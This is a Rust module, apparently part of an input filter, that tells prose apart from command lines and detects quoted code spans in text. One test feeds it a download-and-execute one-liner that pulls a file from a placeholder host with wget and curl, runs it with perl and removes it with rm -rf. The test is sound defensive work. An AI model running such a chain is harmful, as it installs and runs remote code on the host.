//! Whether a value is a text that people read: an article may quote a command, a parameter may not.

/// Runs of three plain words that make a text.
const RUNS: usize = 9;

/// Counts places where three plain words follow one another, each by one blank: letters of any script, with the
/// punctuation that ends a word in a sentence.
pub fn is_text(bytes: &[u8]) -> bool {
    if bytes.len() < 120 {
        return false;
    }
    let (mut row, mut runs) = (0usize, 0usize);
    for word in bytes.split(|byte| matches!(byte, b' ' | b'\n')) {
        // A browser ends the lines of a text area with CR LF.
        let word = word.strip_suffix(b"\r").unwrap_or(word);
        let trimmed = word
            .strip_suffix(b",")
            .or_else(|| word.strip_suffix(b"."))
            .unwrap_or(word);
        let plain = trimmed.len() > 1
            && trimmed
                .iter()
                .all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80 || *byte == b'\'');
        row = if plain { row + 1 } else { 0 };
        runs += usize::from(row >= 3 || plain && is_a_clause(trimmed));
        if runs >= RUNS {
            return true;
        }
    }
    false
}

/// Whether a word is as long as three: a clause of a script that sets no blanks (Chinese, Japanese, Thai), or words between
/// blanks that do not break.
fn is_a_clause(word: &[u8]) -> bool {
    const LENGTH: usize = 24;
    word.len() >= LENGTH && word.iter().filter(|byte| **byte >= 0x80).count() * 4 > word.len() * 3
}

/// Whether a text sets code apart: in backticks, on lines of its own, in elements.
pub fn quotes_code(bytes: &[u8]) -> bool {
    bytes.contains(&b'`')
        || bytes.contains(&b'\n')
        || memchr::memmem::find(bytes, b"<code").is_some()
}

/// Whether a text has a code fence.
pub fn fenced(bytes: &[u8]) -> bool {
    memchr::memmem::find(bytes, b"```").is_some()
}

/// Whether a backtick at `i` opens a span between the words of a text.
pub fn marks_code(bytes: &[u8], i: usize) -> bool {
    if bytes.get(i) != Some(&b'`') {
        return false;
    }
    // `Run `ls` first`: a word before the span, and a word or a sentence's end behind it.
    let Some(close) = bytes
        .iter()
        .skip(i + 1)
        .take(200)
        .position(|byte| *byte == b'`')
    else {
        return false;
    };
    let left = bytes.get(..i).unwrap_or_default();
    let right = bytes.get(i + close + 2..).unwrap_or_default();
    // `[`ls`](https://…)`: a link of Markdown.
    if left.ends_with(b"[") && right.starts_with(b"](http") {
        return true;
    }
    let word_before = left.strip_suffix(b" ").is_some_and(|left| {
        left.iter()
            .rev()
            .take(2)
            .filter(|byte| {
                byte.is_ascii_alphabetic()
                    || **byte >= 0x80
                    || matches!(byte, b'.' | b',' | b':' | b'`' | b'(')
            })
            .count()
            == 2
            // `a `type` field`
            || matches!(left, [.., x, b' ', y] if x.is_ascii_alphabetic() && y.is_ascii_alphabetic())
    }) || matches!(
        left,
        [.., b'`' | b')', b'/' | b'('] | [.., b'`', b',', b' ']
    );
    let word_behind = match right {
        [b' ' | b',' | b'.' | b':' | b')' | b'?' | b'\n', rest @ ..] => {
            rest.iter()
                .take(24)
                .filter(|byte| byte.is_ascii_alphabetic() || **byte >= 0x80)
                .count()
                >= 3
        }
        // Korean particles follow a span without a blank.
        [first, ..] => *first >= 0x80,
        [] => false,
    } || right
        .iter()
        .all(|byte| matches!(byte, b'.' | b')' | b'\n' | b'\r'))
        && words(left) > 3;
    let line_starts = left.is_empty() || left.ends_with(b"\n") || left.ends_with(b"- ");
    word_behind && (word_before || line_starts)
}

/// How many of the last words of a text are plain: letters, with the sign that ends a part of a sentence.
fn words(text: &[u8]) -> usize {
    text.get(text.len().saturating_sub(160)..)
        .unwrap_or_default()
        .split(|byte| *byte == b' ')
        .filter(|word| {
            let word = word.strip_suffix(b",").unwrap_or(word);
            word.len() > 1
                && word
                    .iter()
                    .all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80)
        })
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn articles_are_texts_and_command_lines_are_not() {
        assert!(is_text(
            b"To list the files of a folder you may want to run the `ls -l` command, which is what most people do when they look around."
        ));
        assert!(is_text(
            "좌석을\r\n고르고\r\n결제를\r\n".repeat(8).as_bytes()
        ));
        assert!(!is_text(
            b"cd /tmp;wget http://h.example/x.png -O p.txt;curl -O http://h.example/x.png;mv x.png p.txt;perl p.txt;rm -rf p.txt;echo done and done"
        ));
    }
}
